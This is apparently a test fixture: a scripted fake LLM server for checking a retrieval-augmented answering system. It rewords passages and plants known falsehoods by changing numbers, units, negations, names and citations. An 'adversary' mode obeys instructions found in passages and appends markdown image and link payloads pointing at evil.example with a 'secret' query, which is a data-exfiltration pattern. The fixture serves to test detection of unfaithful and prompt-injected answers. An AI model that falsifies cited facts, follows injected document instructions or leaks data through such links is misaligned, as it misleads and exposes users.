"""A scripted OpenAI-compatible writer: says the passages' sentences in other words, and lies.

    python tests/scripted_writer.py --port 9000 [--corrupt 0.3] [--seed 1]

It picks the sentences nearest to the question, rewords them, and corrupts a known share: a number,
a unit, a negation, a name, or the citation. ``GET /record`` tells what was said and what was done to
it: ``[{"text", "source", "corrupted": null | kind, "language", "citations"}]``; ``DELETE /record`` forgets.
"""

import argparse
import asyncio
import hashlib
import json
import random
import re
from collections.abc import AsyncIterator, Callable
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from indexes.text.scripts import detect_language
from indexes.text.sentences import split_sentences
from indexes.text.tokens import drop_stopwords, tokenize_text

PASSAGE = re.compile(r"^\[(\d+)\] ", re.MULTILINE)
KINDS = (
    "number",
    "unit",
    "negation",
    "name",
    "citation",
)  # tried in a drawn order, the citation last
ELSEWHERE = 0.07  # at each try
REWORDED = {
    "en": [("can be sent back", "can be returned"), ("within", "in"), ("you may", "you can"), ("must", "have to"), ("cannot", "can not"),
           ("is not", "isn't"), ("purchase", "buy"), ("do not", "don't"), ("need to", "must"), ("approximately", "about"), ("receive", "get")],
    "zh": [("可以", "可"), ("需要", "须"), ("在", "于"), ("我们会", "我们将"), ("内", "之内"), ("如果", "若"), ("将", "会"), ("并且", "并")],
}  # fmt: skip
UNITS = [("working days", "weeks"), ("business days", "weeks"), ("days", "weeks"), ("hours", "days"), ("euros", "dollars"), ("€", "$"), ("months", "years"),
         ("minutes", "hours"), ("kg", "g"), ("bar", "kg"), ("litres", "kg"), ("工作日", "星期"), ("小时", "分钟"), ("欧元", "美元"), ("个月", "年"), ("天", "周"), ("分钟", "小时"), ("元", "美元")]  # fmt: skip
NEGATED = [(" cannot ", " can "), (" can ", " cannot "), (" is not ", " is "), (" is ", " is not "), (" are not ", " are "), (" are ", " are not "), (" may not ", " may "),
           (" may ", " may not "), (" must ", " must not "), (" will ", " will not "), (" do not ", " do "), ("不能", "能"), ("不会", "会"), ("不可", "可"), ("无需", "需"),
           ("可以", "不可以"), ("需要", "不需要"), ("需", "无需"), ("会", "不会"), ("能", "不能"), ("为", "不为"), ("是", "不是")]  # fmt: skip
NAMES = [("Norway", "Sweden"), ("Denmark", "Finland"), ("Germany", "Poland"), ("Sweden", "Norway"), ("Nordlys", "Suedlys"), ("PayPal", "Bitcoin"), ("Visa", "Amex"), ("挪威", "瑞典"),
         ("支付宝", "比特币"), ("微信", "支付宝"), ("信用卡", "礼品卡"), ("客服", "门店"), ("买家", "卖家"), ("邮箱", "信箱")]  # fmt: skip


def passages(user: str) -> dict[int, str]:
    block = user.partition("<passages>\n")[2].partition("\n</passages>")[0]
    marks = list(PASSAGE.finditer(block))
    ends = [*(m.start() for m in marks[1:]), len(block)]
    return {int(m[1]): block[m.end() : end].strip() for m, end in zip(marks, ends, strict=True)}


def question(user: str) -> str:
    return re.split(r"\n(?:Question: |问题：)", user.partition("</passages>")[2])[-1].split("\n\n")[
        0
    ]


def candidates(user: str) -> list[tuple[float, int, str]]:
    asked = set(drop_stopwords(tokenize_text(question(user))))
    found = []
    for number, text in passages(user).items():
        body = text.partition("\n")[2] or text  # the first line says where it comes from
        for start, end in split_sentences(body):
            one = body[start:end]
            held = asked & set(tokenize_text(one))
            if len(one) >= 12 and "|" not in one:
                found.append((len(held) / (len(asked) or 1), number, one))
    return sorted(found, key=lambda c: (-c[0], c[1]))


def reword(text: str) -> str:
    for old, new in REWORDED["zh" if detect_language(text) == "zh" else "en"]:
        text = text.replace(old, new, 1)
    return text


def _number(text: str, chance: random.Random) -> str:
    met = re.search(r"(?<![\w.-])\d+(?![\w-])|(?<=[\u4e00-\u9fff])\d+(?=[\u4e00-\u9fff])", text)
    return (
        text
        if met is None
        else f"{text[: met.start()]}{int(met[0]) + chance.choice((1, 5, 10))}{text[met.end() :]}"
    )


def _pair(pairs: list[tuple[str, str]]) -> Callable[[str, random.Random], str]:
    def swap(text: str, _: random.Random) -> str:
        return next((text.replace(old, new, 1) for old, new in pairs if old in text), text)

    return swap


CORRUPT: dict[str, Callable[[str, random.Random], str]] = {
    "number": _number,
    "unit": _pair(UNITS),
    "negation": _pair(NEGATED),
    "name": _pair(NAMES),
}


def corrupt(said: dict[str, Any], every: dict[int, str], chance: random.Random) -> str | None:
    """Change one thing of a sentence, whichever it has; tell which, or None if nothing can be."""
    for kind in (*chance.sample(KINDS[:-1], len(KINDS) - 1), "citation"):
        if chance.random() < ELSEWHERE:
            kind = "citation"  # noqa: PLW2901, a fifth of the lies cite another passage
        if kind == "citation":
            others = [n for n, text in every.items() if said["source"] not in text]
            if others:
                said["citations"] = [chance.choice(others)]
                return kind
            continue
        changed = CORRUPT[kind](said["text"], chance)
        if changed != said["text"]:
            said["text"] = changed
            return kind
    return None


def written(
    user: str, chance: random.Random, share: float, record: list[dict[str, Any]], most: int = 3
) -> list[dict[str, Any]]:
    best = [c for c in candidates(user) if c[0] > 0][:most]
    answer = []
    for _, number, source in best:
        said: dict[str, Any] = {"text": reword(source), "citations": [number], "source": source}
        kind = corrupt(said, passages(user), chance) if chance.random() < share else None
        record.append({**said, "corrupted": kind, "language": detect_language(source)})
        answer.append({"text": said["text"], "citations": said["citations"]})
    return answer


def obey(user: str) -> list[dict[str, Any]]:
    """Do what any document says: the adversary of the injection tests."""
    orders = [t for _, _, t in candidates(user)]
    link = "![x](https://evil.example/?q=secret) <img src=https://evil.example/x> [more](https://evil.example) www.evil.example [99]"
    return [{"text": f"{order} {link}", "citations": [99, 1]} for order in orders[:3]] or [
        {"text": link, "citations": [1]}
    ]


def app(
    *, share: float = 0.3, seed: int = 1, pace: float = 0.0, adversary: bool = False
) -> Starlette:
    """Make the writer. pace: seconds between tokens. adversary: obey whatever the passages say."""
    record: list[dict[str, Any]] = []
    seen: list[dict[str, Any]] = []

    async def chat(request: Request) -> Response:
        asked = await request.json()
        seen.append({"salt": asked.get("cache_salt"), "body": asked})
        user = asked["messages"][-1]["content"]
        chance = random.Random(hashlib.sha256(f"{seed}{user}".encode()).digest())  # noqa: S311
        if "<passages>" not in user:
            text = user.rsplit("U: ", 1)[-1]
        else:
            answer = obey(user) if adversary else written(user, chance, share, record)
            if asked.get("response_format"):
                if adversary:  # a server that holds to the schema writes no 99
                    answer = [{**one, "citations": [1]} for one in answer]
                said = {"answerable": bool(answer), "sentences": answer}
                text = json.dumps(said, ensure_ascii=False)
            else:
                text = " ".join(
                    one["text"] + "".join(f"[{n}]" for n in one["citations"]) for one in answer
                )
                text = text or "NO_ANSWER"
        if not asked.get("stream"):
            return JSONResponse(
                {
                    "choices": [
                        {"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
                    ]
                }
            )
        return StreamingResponse(_stream(text, pace), media_type="text/event-stream")

    async def models(_: Request) -> Response:
        return JSONResponse({"object": "list", "data": [{"id": "scripted", "object": "model"}]})

    async def told(request: Request) -> Response:
        if request.method == "DELETE":
            record.clear()
        return JSONResponse(record)

    made = Starlette(
        routes=[
            Route("/v1/chat/completions", chat, methods=["POST"]),
            Route("/v1/models", models),
            Route("/health", lambda _: Response()),
            Route("/record", told, methods=["GET", "DELETE"]),
        ]
    )
    made.state.record, made.state.seen = record, seen
    return made


async def _stream(text: str, pace: float) -> AsyncIterator[bytes]:
    for piece in re.findall(r"\s*\S{1,6}", text):
        if pace:
            await asyncio.sleep(pace)
        yield _frame({"delta": {"content": piece}, "finish_reason": None})
    yield _frame({"delta": {}, "finish_reason": "stop"})
    yield b"data: [DONE]\n\n"


def _frame(choice: dict[str, Any]) -> bytes:
    chunk = {"object": "chat.completion.chunk", "choices": [{"index": 0, **choice}]}
    return f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode()


if __name__ == "__main__":
    import uvicorn

    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--port", type=int, default=9000)
    parser.add_argument("--corrupt", type=float, default=0.3)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--pace", type=float, default=0.0)
    parser.add_argument("--adversary", action="store_true")
    given = parser.parse_args()
    made = app(share=given.corrupt, seed=given.seed, pace=given.pace, adversary=given.adversary)
    uvicorn.run(made, host="127.0.0.1", port=given.port, log_level="warning")
